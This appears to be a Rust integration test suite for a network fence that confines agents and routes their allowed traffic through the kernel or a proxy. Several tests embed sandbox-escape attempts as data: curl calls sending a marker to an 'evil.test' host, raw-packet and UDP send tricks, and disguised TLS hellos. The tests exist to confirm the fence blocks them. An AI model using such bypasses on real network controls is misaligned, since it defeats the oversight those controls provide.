//! Which way a granted flow takes: by the kernel, or through the proxy, which is just as strict.

use super::{CGROUP, SEALED, gated, permits, policy, said, servers, works};
use crate::{
    AGENT,
    attack::{self, script},
    fence,
    fence::{Agent, Fence},
    lab::Lab,
    places::{EVIL, OK},
    policies::{self, COMMON},
    program,
    sniffer::mark,
};
use serde_json::Value;

#[test]
fn an_agent_of_the_host_goes_by_the_kernel_and_a_sealed_one_through_the_proxy() {
    let fence = fence(COMMON);
    for (mode, path) in [("cgroup", "kernel"), ("sealed", "proxy")] {
        goes_by(&fence.agent(mode).with(&["--mode", mode]), mode, path);
    }
}

#[test]
fn a_rule_that_says_proxy_is_obeyed_in_every_mode() {
    let fence = gated("proxy");
    for mode in ["cgroup", "sealed"] {
        goes_by(&fence.agent(mode).with(&["--mode", mode]), mode, "proxy");
    }
}

#[test]
fn a_sealed_agent_goes_by_the_kernel_where_its_rule_says_so() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let agent = fence.agent("sealed").with(SEALED);
    goes_by(&agent, "sealed", "kernel");
    for version in ["4", "6"] {
        let trick = format!("{{trick}} gate.say whole {version} ok.test 4430 {{mark}}.evil.test");
        let denied = super::Denied { trick: &trick, reason: "host-not-allowed", name: "{mark}.evil.test" };
        super::denies(&fence.agent(&format!("sealed{version}")).with(SEALED), "kernel", 4430, denied);
    }
    attack::stops(
        &agent,
        EVIL,
        &["curl -sk -m 2 https://{host}/{mark}", "curl -sk -m 2 https://{v4}/{mark}"],
    );
}

#[test]
fn a_sealed_agent_with_frames_of_its_own_goes_through_the_proxy() {
    let own = policy("kernel").replace("default:", "default:\n    capabilities: [net_raw, net_admin]");
    let fence = crate::fence(&own);
    let _servers = servers(fence.lab());
    let agent = fence.agent("framed").with(SEALED);
    goes_by(&agent, "framed", "proxy");
    // With the address granted, no frame of its own making reaches it.
    let frames = [
        "curl -s https://ok.test/; {trick} packet {v4} {mark}",
        "curl -s https://ok.test/; {trick} packets.raw_tcp {v4} 443 {mark} 24",
        "curl -s https://ok.test/; {trick} packets.raw_tcp {v4} 4430 {mark} 2",
    ];
    attack::stops_only_fenced(&agent, OK, &frames);
}

#[test]
fn a_way_of_the_kernels_is_open_to_no_other_agent_and_no_other_protocol() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let tricks = [
        "curl -s https://ok.test/; {trick} udp_sendto {v4} 443 {mark}",
        "curl -s https://ok.test/; {trick} udp_sendto {v6} 4430 {mark}",
        "curl -s https://ok.test/; {trick} udplite_sendto {v4} 4430 {mark}",
    ];
    for mode in [CGROUP, SEALED] {
        attack::stops(&fence.agent(AGENT).with(mode), OK, &tricks);
    }
}

#[test]
fn a_hello_that_the_kernel_cannot_read_passes_through_the_proxy_from_the_next_flow_on() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    for variant in ["records", "many"] {
        let agent = fence.agent(variant).with(CGROUP);
        let (position, trick) = (
            fence.lab().sniffer().position(),
            format!("{{trick}} gate.say_variant {variant} 4 ok.test 4430 ok.test"),
        );
        // In one agent: the way is its own.
        let twice = format!("{trick} && exit 9; echo; {trick}");
        let outcome = agent.run(&script(&twice, OK, ""));
        let heard: Vec<_> = outcome.stdout.lines().filter(|line| line.starts_with("heard ")).collect();
        assert_eq!(heard.len(), 2, "{variant}: {outcome:#?}");
        assert!(heard[0].starts_with("heard alert") && heard[1].starts_with("heard answer"), "{outcome:#?}");
        let record = agent.denial(variant, |record| record["reason"] == "hello-unreadable");
        assert_eq!(record["path"], "kernel", "{record:#}");
        let record = program::poll("the permit", || permits(&agent, variant).pop());
        assert_eq!(record["path"], "proxy", "{record:#}");
        fence.lab().settle();
        assert!(said(fence.lab(), position, 4430).contains("ok.test"), "the second one arrives");
    }
}

#[test]
fn a_denied_name_in_a_hello_that_the_kernel_cannot_read_is_denied_by_the_proxy_too() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let agent = fence.agent("hidden").with(CGROUP);
    let (mark, position) = (mark(), fence.lab().sniffer().position());
    let trick =
        "for i in 1 2 3; do {trick} gate.say_variant records 4 ok.test 4430 {mark}.evil.test; done; true";
    let outcome = agent.run(&script(trick, OK, &mark));
    fence.lab().settle();
    assert_eq!(said(fence.lab(), position, 4430), "", "{outcome:#?}");
    let by = |path: &str, reason: &str| {
        agent.denial(reason, |record| record["path"] == path && record["reason"] == reason)
    };
    by("kernel", "hello-unreadable");
    let record = by("proxy", "host-not-allowed");
    assert_eq!(record["destination"]["name"], format!("{mark}.evil.test"), "{record:#}");
    super::leaks(fence.lab(), 4430, trick);
}

#[test]
fn octets_that_skipped_the_gate_send_the_next_flow_through_the_proxy() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let agent = fence.agent("skipper").with(CGROUP);
    let trick = "{trick} gate.opened_fast 4 ok.test 4430 {mark} message; {trick} gate.say whole 4 ok.test 4430 ok.test";
    let outcome = agent.run(&script(trick, OK, &mark()));
    assert!(outcome.succeeded(), "{outcome:#?}");
    agent.denial("the first flow", |record| record["reason"] == "hello-skipped");
    let record = program::poll("the permit", || permits(&agent, "skipper").pop());
    assert_eq!(record["path"], "proxy", "{record:#}");
}

#[test]
fn two_names_at_one_address_that_want_different_ways_go_through_the_proxy() {
    let fence = fence(&policies::with(&[
        "{host: ok.test, private: true, gate: kernel}",
        "{host: '*.ok.test', private: true, gate: proxy}",
    ]));
    let agent = fence.agent("both").with(CGROUP);
    works(&agent, OK, &["getent hosts www.{host}; curl -sSf -m 5 https://{host}/"]);
    let record = program::poll("the permit", || permits(&agent, "both").pop());
    assert_eq!(record["path"], "proxy", "{record:#}");
}

#[test]
fn where_the_kernel_refuses_the_programs_every_flow_goes_through_the_proxy() {
    let folder = tempfile::tempdir().expect("a temporary folder can be made");
    let programs = super::without_types(crate::programs(), folder.path());
    let lab = Lab::new();
    // What the daemon mounts in a mount namespace of its own has to be seen here too.
    let _shared = super::Shared::at(lab.folder().join("run"));
    let fence = Fence::start(lab, programs, COMMON);
    let reads = reader(&fence);
    assert!(reads.starts_with("proxy ("), "the status says why: {reads}");
    for mode in ["cgroup", "sealed"] {
        goes_by(&fence.agent(mode).with(&["--mode", mode]), mode, "proxy");
    }
    attack::stops(
        &fence.agent(AGENT).with(CGROUP),
        OK,
        &[
            "curl -s https://{host}/; curl -sk -m 2 --resolve {mark}.evil.test:443:{v4} https://{mark}.evil.test/",
        ],
    );
}

#[test]
fn the_status_says_who_reads_server_names() {
    let fence = fence(COMMON);
    assert_eq!(reader(&fence), "kernel");
    let status = fence.ctl(&["status", "-o", "json"]);
    let status: Value = serde_json::from_str(&status.stdout).expect("the status is JSON");
    assert!(status.to_string().contains("\"kernel\""), "{status:#}");
}

/// Who reads server names, as the status says it.
fn reader(fence: &Fence) -> String {
    let status = fence.ctl(&["status"]).stdout;
    let line = status.lines().find_map(|line| line.trim().strip_prefix("server names"));
    line.unwrap_or_else(|| panic!("the status says who reads server names: {status}")).trim().to_owned()
}

/// A fetch works, and the record says which way it took.
fn goes_by(agent: &Agent, name: &str, path: &str) {
    works(agent, OK, &["curl -4 -sSf -m 5 https://{host}/", "curl -6 -sSf -m 5 https://{host}/"]);
    let records = program::poll("the records", || {
        let records = permits(agent, name);
        (!records.is_empty()).then_some(records)
    });
    let taken: Vec<&Value> = records.iter().map(|record| &record["path"]).collect();
    assert!(taken.iter().all(|taken| *taken == path), "{name} should go by {path}: {records:#?}");
}
